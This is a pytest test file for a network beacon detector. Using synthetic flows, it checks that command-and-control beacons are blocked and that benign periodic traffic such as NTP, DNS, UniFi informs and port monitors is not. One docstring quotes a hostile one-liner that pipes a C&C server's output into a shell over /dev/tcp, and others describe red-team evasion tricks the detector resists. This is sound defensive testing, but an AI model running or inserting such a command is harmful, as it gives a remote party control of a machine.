"""Beacon detector: scripted beacons must be found (and strict ones blocked), benign periodic traffic not."""

from __future__ import annotations

from pathlib import Path

import pytest
from flowgen import T0, beacon, both_twins, browsing, config, flow, run, sort_flows
from hypothesis import given, settings
from hypothesis import strategies as st

from slipsq.detect.beacon import Beacon, size_score, timing_score
from slipsq.flow import Flow

C2 = "203.0.113.50"
HOST = "192.168.1.20"

implementation = both_twins("slipsq.detect._beacon")  # every test on the readable (py) and compiled (c) state


@pytest.mark.parametrize("interval,by", [(1.0, 95.0), (10.0, 110.0), (60.0, 660.0), (600.0, 6600.0)])
def test_strict_beacon_blocks_the_server_once_it_persists(interval: float, by: float) -> None:
    # one report is critical x 0.9; the judge doubles it once it is reported again >= 60 s after the
    # first report in the window: at the 12th connection, or (1 s beacons) at the 90th
    rec, _ = run([Beacon], beacon(HOST, C2, 443, interval, 100 if interval < 10 else 14))
    assert rec.blocked_ips == [C2]
    ts_block = rec.blocks[0][0]
    assert ts_block <= T0 + by + 1e-6
    alert = rec.by("beacon")[-1]
    assert f"every {interval:.1f}s" in alert.evidence.description
    assert alert.evidence.key == f"beacon:{C2}:443/tcp"  # the service: every client's reports are one finding


def test_fast_beacon_is_blocked_within_three_minutes() -> None:
    rec, _ = run([Beacon], beacon(HOST, C2, 8080, 10.0, 30, jitter=0.1))
    assert rec.blocks and rec.blocks[0][0] - T0 <= 180


def test_an_hourly_check_is_reported_but_never_blocks_alone() -> None:
    # as regular and steady as a C&C, but so are update checks: one report per window never persists
    rec, _ = run([Beacon], beacon(HOST, C2, 443, 3600.0, 20))
    assert max(a.evidence.threat_level for a in rec.by("beacon")) == 1.0
    assert rec.blocked_ips == []


@pytest.mark.parametrize("seed", range(5))
def test_jittered_beacon_is_reported_and_blocks_with_one_corroboration(seed: int) -> None:
    flows = beacon(HOST, C2, 80, 30.0, 24, jitter=0.5, size_jitter=0.05, seed=seed)
    rec, eng = run([Beacon], flows)
    alerts = rec.by("beacon")
    assert alerts, "a ±50% jittered beacon must be reported"
    best = max(a.evidence.score for a in alerts)
    assert 0.5 <= best
    assert all(a.evidence.offender == C2 for a in alerts)
    # one corroborating finding of 0.5 against the same server is enough
    assert best + 0.5 >= eng.engine.config["judge.threshold"]


def test_udp_beacon_with_changing_source_ports() -> None:
    rec, _ = run([Beacon], beacon(HOST, C2, 9999, 5.0, 20, proto="udp", sbytes=90, dbytes=120))
    assert rec.blocked_ips == [C2]


def test_block_client_option() -> None:
    cfg = config([Beacon], **{"beacon.block": "client"})
    rec, _ = run([Beacon], beacon(HOST, C2, 443, 20.0, 14), cfg=cfg)
    assert rec.blocked_ips == [HOST]


def test_evidence_is_not_repeated_for_every_flow() -> None:
    rec, _ = run([Beacon], beacon(HOST, C2, 443, 5.0, 200))
    assert 2 <= len(rec.by("beacon")) <= 10


@pytest.mark.parametrize("seed", range(4))
def test_browsing_is_not_a_beacon(seed: int) -> None:
    servers = ["198.51.100.1", "198.51.100.2", "198.51.100.3"]
    rec, _ = run([Beacon], browsing(HOST, servers, 150, seed=seed))
    assert rec.blocked_ips == []
    assert rec.by("beacon") == []


def test_legit_periodic_traffic_is_never_blocking_evidence() -> None:
    flows = sort_flows(
        beacon(HOST, "162.159.200.1", 123, 64.0, 40, proto="udp", sbytes=76, dbytes=76),  # NTP
        beacon(HOST, "192.168.1.1", 53, 30.0, 40, proto="udp", sbytes=70, dbytes=130),  # local resolver
        beacon(HOST, "239.255.255.250", 1900, 30.0, 40, proto="udp"),  # SSDP multicast
        beacon(HOST, "224.0.0.251", 5353, 20.0, 40, proto="udp"),  # mDNS
        beacon(HOST, "192.168.1.255", 137, 30.0, 40, proto="udp"),  # NetBIOS broadcast
        beacon(HOST, "10.9.9.9", 443, 30.0, 40),  # allow-listed
    )
    cfg = config([Beacon], **{"allow.ips": ["10.9.9.9/32"]})
    rec, _ = run([Beacon], flows, cfg=cfg)
    assert rec.blocked_ips == []
    assert rec.by("beacon") == []


def test_public_resolver_and_lan_polling_are_reported_but_never_block() -> None:
    flows = sort_flows(
        beacon(HOST, "8.8.8.8", 53, 30.0, 40, proto="udp", sbytes=70, dbytes=130),
        beacon("192.168.1.5", "192.168.1.30", 9100, 15.0, 40),  # LAN monitoring scrape
    )
    rec, _ = run([Beacon], flows)
    assert rec.blocked_ips == []
    alerts = rec.by("beacon")
    assert {a.evidence.dst_ip for a in alerts} == {"8.8.8.8", "192.168.1.30"}
    assert not any(a.evidence.may_block for a in alerts)


def test_allow_listed_domain_via_dns_names() -> None:
    from slipsq.flow import AppEvent

    ip = "142.250.1.100"
    dns = AppEvent(T0 - 1, "dns", "192.168.1.1", 53, HOST, 5000, "udp",
                   {"query": "connectivitycheck.gstatic.com", "answers": [ip]})
    rec, _ = run([Beacon], beacon(HOST, ip, 80, 60.0, 30), events=[dns])
    assert rec.by("beacon") == []
    rec2, _ = run([Beacon], beacon(HOST, ip, 80, 60.0, 30))
    assert rec2.blocked_ips == [ip]  # the same traffic without the name is a beacon


def test_out_of_order_closing_and_reports_are_handled() -> None:
    flows = beacon(HOST, C2, 443, 10.0, 14)
    report = flow(T0, HOST, C2, 443, dur=300, closed_by="active")
    rec, _ = run([Beacon], [*flows, report])
    assert rec.blocked_ips == [C2]


def test_memory_is_bounded() -> None:
    cfg = config([Beacon], **{"beacon.max_tuples": 50})
    flows = [flow(T0 + i, HOST, f"198.51.{i // 250}.{i % 250}", 443) for i in range(500)]
    _, eng = run([Beacon], flows, cfg=cfg)
    det = eng.engine.detectors[0]
    assert isinstance(det, Beacon) and len(det.tuples) <= 50


@settings(max_examples=200, deadline=None)
@given(st.lists(st.floats(min_value=0, max_value=1e5, allow_nan=False), min_size=3, max_size=60),
       st.lists(st.integers(min_value=0, max_value=10**9), min_size=1, max_size=60))
def test_scores_stay_in_range(gaps: list[float], sizes: list[int]) -> None:
    s, d, m = timing_score(gaps)
    assert 0.0 <= s <= 1.0 and d >= 0 and m >= 0
    z, zd = size_score(sizes)
    assert 0.0 <= z <= 1.0 and zd >= 0


def test_inbound_periodic_clients_are_not_beacons() -> None:
    # an Internet host guessing passwords every 3 s on a LAN server: brute force, not our C&C
    rec, _ = run([Beacon], beacon("198.51.100.66", "192.168.1.30", 22, 3.0, 40))
    assert rec.by("beacon") == []


def test_a_monitors_port_check_is_no_call_and_a_silent_c2_client_still_is() -> None:
    """Found by a hunt (2026-12-07): Uptime Kuma's "TCP port" monitor on the NAS checks the owner's
    VPS's ssh every 60 s by address: it connects, takes the banner and closes without a byte
    ("SAF_SPAF": the server pushed data, the client none). That was a critical beacon and blocked
    the VPS. A silent client's connection whose first bytes were its server's speak-first banner
    (ssh here) is a port check now. Found by a red team the same day: skipping every silent client
    let a cron job that pipes a C&C's push into a shell (`cat </dev/tcp/C2/8443 | sh`, the client
    never writes) go unseen; and by a review: one forged banner segment "from" the C&C's port must
    not license its pushes. Only the connection's own banner counts."""
    from slipsq.flow import AppEvent

    nas, vps = "192.168.1.20", "203.0.113.77"

    def checks(state: str, port: int = 22) -> list[Flow]:
        return [flow(T0 + i * 60.0, nas, vps, port, dur=0.05, sbytes=180, dbytes=240,
                     state=state, sport=40000 + i) for i in range(40)]

    def banners(flows: list[Flow], port: int = 22, client_port: int | None = None) -> list[AppEvent]:
        # (at the flow's start: the harness feeds flows by start, and a banner comes before its flow closes)
        return [AppEvent(f.start, "banner", vps, port, nas, f.sport if client_port is None else client_port,
                         "tcp", {"service": "ssh", "text": "SSH-2.0-OpenSSH_9.6p1"}) for f in flows]

    kuma = checks("SAF_SPAF")
    rec, eng = run([Beacon], kuma, banners(kuma))
    assert rec.by("beacon") == [] and rec.blocked_ips == []
    det = next(d for d in eng.engine.detectors if isinstance(d, Beacon))
    assert len(det.intake.speaks_first) == 0  # each connection's flow took its own entry out
    rec, _ = run([Beacon], kuma)  # no banner seen: a push to a silent client
    assert rec.blocked_ips == [vps]
    push = checks("SAF_SPAF", 8443)
    rec, _ = run([Beacon], push, banners(push, port=22))  # banners of the same server's ssh, not of these
    assert rec.blocked_ips == [vps]
    rec, _ = run([Beacon], push, banners(push[:1], port=8443, client_port=1))  # one forged "banner"
    assert rec.blocked_ips == [vps]
    rec, _ = run([Beacon], checks("SPAF_SPAF"), banners(kuma))  # the client speaks: a check-in
    assert rec.blocked_ips == [vps]
    client_said = [AppEvent(f.start, "banner", nas, f.sport, vps, 22, "tcp",
                            {"service": "ssh", "text": "SSH-2.0-OpenSSH_9.6p1"}) for f in kuma]
    rec, _ = run([Beacon], kuma, client_said)  # a client's banner is no server's
    assert rec.blocked_ips == [vps]


def test_a_unifi_devices_inform_counts_half_and_other_requests_do_not() -> None:
    """Found by a hunt (2026-12-07): UniFi devices POST /inform to their controller every 10 s; with
    the controller on a VPS by address (8080), it was blocked as a beacon within two minutes. Such
    check-ins count half (a block only with another finding) when at least half the tuple's
    connections were one, on 8080. A red team's decoy, one inform and then a TLS beacon on the same
    tuple, and the same requests on another port or path or from another agent, are beacons."""
    from slipsq.flow import AppEvent

    dev, ctrl = "192.168.1.2", "203.0.113.30"

    def informs(port: int = 8080, uri: str = "/inform", agent: str = "AirControl Agent v1.0",
                every: int = 1) -> tuple[list[Flow], list[AppEvent]]:
        flows = beacon(dev, ctrl, port, 10.0, 120)
        said = [AppEvent(f.start, "http", dev, f.sport, ctrl, port, "tcp",
                         {"method": "POST", "uri": uri, "host": f"{ctrl}:{port}", "user_agent": agent})
                for f in flows[::every]]
        return flows, said

    rec, _ = run([Beacon], *informs())
    found = rec.by("beacon")
    assert found and rec.blocked_ips == [] and all(a.evidence.confidence <= 0.45 for a in found)
    assert "device-management check-in (UniFi inform" in found[-1].evidence.description
    for case in (informs(every=1000), informs(port=8443), informs(uri="/api/v1/poll"), informs(agent="curl/8.5")):
        rec, _ = run([Beacon], *case)
        assert rec.blocked_ips == [ctrl], case[1][:1]
    rec, _ = run([Beacon], beacon(dev, ctrl, 8080, 10.0, 120))  # no request seen at all
    assert rec.blocked_ips == [ctrl]
    # informs from before the tuple's history license nothing (a review: 9 h old ones did)
    old_flows, old_informs = informs()
    stale = [AppEvent(e.ts - 9 * 3600, e.kind, e.saddr, e.sport, e.daddr, e.dport, e.proto, e.data)
             for e in old_informs]
    rec, _ = run([Beacon], old_flows, stale)
    assert rec.blocked_ips == [ctrl]


def test_beacon_capture_end_to_end() -> None:
    from flowgen import DATA, my_detectors, replay_pcap

    rec = replay_pcap(DATA / "beacon-https.pcap", my_detectors())
    assert rec.blocked_ips == ["203.0.113.66"]
    assert {a.evidence.detector for a in rec.seen} == {"beacon"}


def test_normal_home_capture_is_quiet() -> None:
    """Browsing, DNS to the router, NTP, SSDP, mDNS, connectivity checks: no alert from any detector."""
    from flowgen import DATA, my_detectors, replay_pcap

    rec = replay_pcap(DATA / "normal-home.pcap", my_detectors())
    assert rec.seen == [] and rec.blocked_ips == []


@pytest.mark.shared
def test_normal_day_is_not_a_beacon(shared_data: Path) -> None:
    from flowgen import read_binetflow

    rec, _ = run([Beacon], read_binetflow(shared_data / "flows/ctu-normal-2013-10-21.binetflow"))
    assert rec.by("beacon") == [] and rec.blocked_ips == []


@settings(max_examples=40, deadline=None)
@given(st.floats(min_value=1.0, max_value=300.0), st.floats(min_value=0.0, max_value=0.1),
       st.integers(min_value=0, max_value=10**6), st.sampled_from(["tcp", "udp"]))
def test_any_steady_beacon_blocks_once_it_persists(interval: float, jitter: float, seed: int,
                                                    proto: str) -> None:
    # 12 connections, and enough more that one report comes >= 60 s after the first (fast beacons)
    flows = beacon(HOST, C2, 8443, interval, 12 + int(100 / interval), jitter=jitter, seed=seed, proto=proto)
    rec, _ = run([Beacon], flows)
    assert rec.blocked_ips == [C2]


def test_devices_calling_one_update_service_are_one_finding() -> None:
    """Found by review: two devices of one brand checking the same update server every hour (HIGH,
    0.54 each) added up to a block. Against a server the judge keys a beacon by the service, so the
    house's devices make one finding (its best report); one device's alert is what two give."""
    server = "198.51.100.77"
    devices = [beacon(f"192.168.1.{30 + d}", server, 443, 3600.0, 9, jitter=0.02, start=T0 + 300 + 1700 * d,
                      seed=d) for d in range(3)]
    one, _ = run([Beacon], devices[0])
    three, _ = run([Beacon], sort_flows(*devices))
    assert one.by("beacon") and three.by("beacon")  # each device's check is reported ...
    assert one.blocked_ips == three.blocked_ips == []  # ... and together they still block no one
    assert {a.evidence.key for a in three.by("beacon")} == {f"beacon:{server}:443/tcp"}
    # with the client as the offender, every device is its own finding, as before
    cfg = config([Beacon], **{"beacon.block": "client"})
    rec, _ = run([Beacon], sort_flows(*devices), cfg=cfg)
    assert len({a.evidence.key for a in rec.by("beacon")}) == 3


def test_a_beacon_from_two_hosts_to_one_c2_still_blocks() -> None:
    """Two infected hosts: each one's beacon persists (critical, doubled) and blocks by itself."""
    flows = sort_flows(beacon(HOST, C2, 443, 30.0, 40), beacon("192.168.1.21", C2, 443, 30.0, 40, start=T0 + 7))
    rec, _ = run([Beacon], flows)
    assert rec.blocked_ips == [C2]
